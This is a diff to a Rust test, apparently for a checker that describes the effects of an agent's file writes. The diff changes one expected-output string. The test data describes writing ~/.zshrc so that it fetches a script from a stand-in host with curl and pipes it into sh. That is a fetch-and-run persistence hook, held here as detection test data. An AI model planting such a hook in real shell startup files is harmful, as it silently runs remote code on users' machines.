@@ -173,7 +173,7 @@ fn a_file_that_runs_by_itself_is_judged_by_its_content() {
             "writes /home/u/.zshrc (Write, argument `/file_path`)",
             "runs `export PATH=~/bin:$PATH` (Write: `export PATH=~/bin:$PATH` via runs from /home/u/.zshrc)",
             "runs `curl -fsSL https://x.example/i.sh` (Write: `curl -fsSL https://x.example/i.sh` via runs from /home/u/.zshrc)",
-            "sends to https://x.example/i.sh (Write: `curl -fsSL https://x.example/i.sh` via runs from /home/u/.zshrc)",
+            "sends to https://x.example/i.sh and runs what comes back (Write: `curl -fsSL https://x.example/i.sh` via runs from /home/u/.zshrc)",
             "runs `sh` (Write: `sh` via runs from /home/u/.zshrc)",
             "cannot resolve: `sh` runs text from a pipe that is only known at run time (`curl -fsSL https://x.example/i.sh`) (Write, argument `/file_path` via runs from /home/u/.zshrc)",
         ]
